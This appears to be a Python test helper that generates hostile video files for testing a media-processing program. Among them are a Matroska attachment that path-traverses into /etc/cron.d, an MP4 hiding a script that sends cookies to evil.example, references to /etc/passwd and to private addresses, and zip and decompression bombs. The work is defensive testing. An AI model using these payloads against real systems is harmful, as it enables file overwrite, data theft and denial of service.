"""Files that hostile sites serve as videos: well-formed where a reader must look, and wrong in one way each."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from io import BytesIO
from pathlib import Path
from tempfile import TemporaryDirectory

from tests.support.clips import make_clip

_HUGE = 2**32 - 1


@cache
def clip(name: str = "clip.mp4", *, seconds: float = 1, codec: str = "mpeg4", has_picture: bool = True) -> bytes:
    """Make a good clip. In MP4 its index is at the end, where it may grow without moving a frame."""
    with TemporaryDirectory() as directory:
        file = Path(directory) / name
        sound = "libopus" if name.endswith(".webm") else "aac"
        make_clip(file, seconds=seconds, picture_codec=codec, sound_codec=sound, has_picture=has_picture)
        return file.read_bytes()


def box(name: bytes, *contents: bytes) -> bytes:
    """Return a box of MP4 (ISO 14496-12)."""
    content = b"".join(contents)
    return struct.pack(">I4s", 8 + len(content), name) + content


def element(number: str, *contents: bytes) -> bytes:
    """Return an element of Matroska (RFC 8794), with its size in eight bytes."""
    content = b"".join(contents)
    return bytes.fromhex(number) + (2**56 | len(content)).to_bytes(8, "big") + content


_PARENTS = frozenset({b"moov", b"trak", b"mdia", b"minf", b"dinf", b"stbl"})


def with_boxes(file: bytes, name: bytes, change: Callable[[bytes], bytes]) -> bytes:
    """Rewrite the content of each box of a name, wherever in the index it is, and the sizes of all boxes around it."""
    written, at = [], 0
    while at < len(file):
        size, found = struct.unpack_from(">I4s", file, at)
        content = file[at + 8 : at + size]
        if found == name:
            content = change(content)
        elif found in _PARENTS:
            content = with_boxes(content, name, change)
        written.append(box(found, content))
        at += size
    return b"".join(written)


def _at(offset: int, new: bytes) -> Callable[[bytes], bytes]:
    return lambda content: content[:offset] + new + content[offset + len(new) :]


def _external(kind: bytes, address: bytes) -> Callable[[bytes], bytes]:
    """Claim that the track's data are in another file: one entry, whose flags do not say "in this file"."""
    return lambda _: struct.pack(">II", 0, 1) + box(kind, struct.pack(">I", 0), address + b"\0")


def _alias(path: bytes) -> bytes:
    """Return what QuickTime calls an alias record, with an absolute path (type 18), as libavformat reads it."""
    head = bytes(10) + b"\x04disk".ljust(28, b"\0") + bytes(12) + b"\x06passwd".ljust(64, b"\0") + bytes(16)
    levels = struct.pack(">hh", 0, 0) + bytes(16)
    return head + levels + struct.pack(">HH", 18, len(path)) + path + bytes(len(path) % 2) + b"\xff\xff\x00\x00"


def _first_tracks(count: int) -> bytes:
    """Repeat the index entry of the first track."""

    def repeat(moov: bytes) -> bytes:
        at = moov.index(b"trak") - 4
        track = moov[at : at + struct.unpack_from(">I", moov, at)[0]]
        return moov + track * count

    return with_boxes(clip(), b"moov", repeat)


_EBML_HEADER = element("1A45DFA3", element("4282", b"matroska"), element("4287", b"\4"), element("4285", b"\2"))


def _many_tracks_in_matroska(count: int) -> bytes:
    tracks = b"".join(
        element(
            "AE",
            element("D7", number.to_bytes(3, "big")),
            element("73C5", number.to_bytes(3, "big")),
            element("83", b"\1"),
            element("86", b"V_VP8"),
            element("E0", element("B0", b"\x40"), element("BA", b"\x30")),
        )
        for number in range(1, count + 1)
    )
    return _EBML_HEADER + element("18538067", element("1654AE6B", tracks))


def _matroska_of_duration(seconds: float) -> bytes:
    """Change the length that a file claims: a double after the element's number and size (RFC 9559)."""
    file = clip("clip.mkv")
    at = file.index(b"\x44\x89\x88") + 3
    return file[:at] + struct.pack(">d", seconds * 1000) + file[at + 8 :]


def _with_attachments() -> bytes:
    """Attach what players may open: subtitles that are a page, a font, and a program."""
    file = clip("clip.mkv")
    attached = b"".join(
        element("61A7", element("466E", name), element("4660", kind), element("465C", content), element("46AE", b"\1"))
        for name, kind, content in (
            (b"../../../../etc/cron.d/owned", b"text/plain", b"* * * * * root id\n"),
            (b"run.exe", b"application/x-msdownload", b"MZ" + bytes(2000)),
            (b"font.ttf", b"application/x-truetype-font", b"\0\1\0\0" + bytes(2000)),
        )
    )
    # The segment's size is known and its clusters follow, so what is appended after them is read as part of the file.
    at = file.index(bytes.fromhex("18538067")) + 4
    head = file[:at] + b"\x01" + b"\xff" * 7  # of unknown size
    return head + file[at + 8 :] + element("1941A469", attached)


def _deep(depth: int) -> bytes:
    content = b""
    for _ in range(depth):
        content = box(b"moov", content)
    return box(b"ftyp", b"isom\0\0\2\0isom") + content


def _compressed_index(unpacked_bytes: int) -> bytes:
    """Compress an index of nothing: QuickTime's `cmov`."""
    packed = zlib.compress(bytes(unpacked_bytes), 1)
    index = box(b"moov", box(b"cmov", box(b"dcom", b"zlib"), box(b"cmvd", struct.pack(">I", unpacked_bytes), packed)))
    return box(b"ftyp", b"qt  \0\0\2\0qt  ") + index


def _zip_bomb() -> bytes:
    target = BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../../tmp/owned.mp4", bytes(20_000_000))
    return target.getvalue()


def _huge_vp8() -> bytes:
    """Claim 16383 by 16383 pixels in the first frame: the key frame's header (RFC 6386, 9.1)."""
    file = clip("clip.webm", codec="libvpx")
    at = file.index(b"\x9d\x01\x2a") + 3
    return file[:at] + b"\xff\x3f\xff\x3f" + file[at + 4 :]


def _page_inside() -> bytes:
    """Begin as a video and also be a page, to whoever looks for one."""
    page = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"
    return clip() + box(b"free", page)


def _chunk(name: bytes, *contents: bytes) -> bytes:
    content = b"".join(contents)
    return name + struct.pack("<I", len(content)) + content + bytes(len(content) % 2)


def _avi_with_playlist(address: str) -> bytes:
    """Hide a playlist in the subtitles of an AVI file: readers that guess the subtitles' format would follow it."""
    playlist = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n{address}\n#EXT-X-ENDLIST\n".encode()
    subtitles = b"GAB2\0\2\0" + struct.pack("<IHI", 2, 0, len(playlist))[0:0]
    subtitles += struct.pack("<I", 2) + b"\0\0" + struct.pack("<HI", 4, len(playlist)) + playlist

    def stream(kind: bytes, handler: bytes, form: bytes, *, frames: int) -> bytes:
        head = struct.pack("<4s4sIHHIIIIIIIIHHHH", kind, handler, 0, 0, 0, 0, 1, 10, 0, frames, 0, 0, 0, 0, 0, 64, 48)
        return _chunk(b"LIST", b"strl", _chunk(b"strh", head), _chunk(b"strf", form))

    picture = struct.pack("<IiiHHIIiiII", 40, 64, 48, 1, 24, 0, 64 * 48 * 3, 0, 0, 0, 0)
    main = struct.pack("<14I", 100_000, 0, 0, 0, 10, 0, 2, 0, 64, 48, 0, 0, 0, 0)
    streams = stream(b"vids", b"DIB ", picture, frames=10) + stream(b"txts", b"\0\0\0\0", b"", frames=1)
    movie = _chunk(b"01tx", subtitles) + _chunk(b"00db", bytes(64 * 48 * 3)) * 10
    return _chunk(
        b"RIFF", b"AVI ", _chunk(b"LIST", b"hdrl", _chunk(b"avih", main), streams), _chunk(b"LIST", b"movi", movie)
    )


_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108000000003a7e9b55"
    "0000000a49444154789c63600000000200015db3a1b20000000049454e44ae426082"
)

_MAKERS: dict[str, Callable[[str], bytes]] = {
    "clip": lambda _: clip(),
    "webm": lambda _: clip("clip.webm", codec="libvpx"),
    "sound": lambda _: clip("sound.m4a", has_picture=False),
    "external file": lambda _: with_boxes(clip(), b"dref", _external(b"alis", _alias(b"/etc/passwd"))),
    "external url": lambda private: with_boxes(clip(), b"dref", _external(b"url ", f"{private}/data.mov".encode())),
    "many tracks in mp4": lambda _: _first_tracks(3000),
    "many tracks in matroska": lambda _: _many_tracks_in_matroska(3000),
    "length of years": lambda _: with_boxes(clip(), b"mvhd", _at(12, struct.pack(">II", 1, 2**31 - 1))),
    "length of zero": lambda _: with_boxes(clip(), b"mvhd", _at(12, struct.pack(">II", 0, 0))),
    "length not a number": lambda _: _matroska_of_duration(float("nan")),
    "length below zero": lambda _: _matroska_of_duration(-5),
    "length infinite": lambda _: _matroska_of_duration(float("inf")),
    "samples without end": lambda _: with_boxes(clip(), b"stsz", _at(8, struct.pack(">I", _HUGE))),
    "one sample of gigabytes": lambda _: with_boxes(clip(), b"stsz", _at(4, struct.pack(">I", 2**31 - 1))),
    "tracks of years": lambda _: with_boxes(clip(), b"mdhd", _at(16, struct.pack(">I", 2**31 - 1))),
    "chunks outside": lambda _: with_boxes(clip(), b"stco", lambda old: old[:8] + b"\x7f" * (len(old) - 8)),
    "attachments": lambda _: _with_attachments(),
    "boxes in boxes": lambda _: _deep(30_000),
    "compressed index": lambda _: _compressed_index(100_000_000),
    "zip bomb": lambda _: _zip_bomb(),
    "huge picture": lambda _: _huge_vp8(),
    "page inside": lambda _: _page_inside(),
    "playlist in subtitles": lambda private: _avi_with_playlist(f"{private}/segment.ts"),
    "file in subtitles": lambda _: _avi_with_playlist("file:///etc/passwd"),
    "png": lambda _: _PNG,
    "zeros": lambda _: bytes(200_000),
    "nothing": lambda _: b"",
}


def hostile_file(name: str, *, private: str) -> bytes:
    """Make a file by its name. `private` is an address to which nothing may connect."""
    return _MAKERS[name](private)
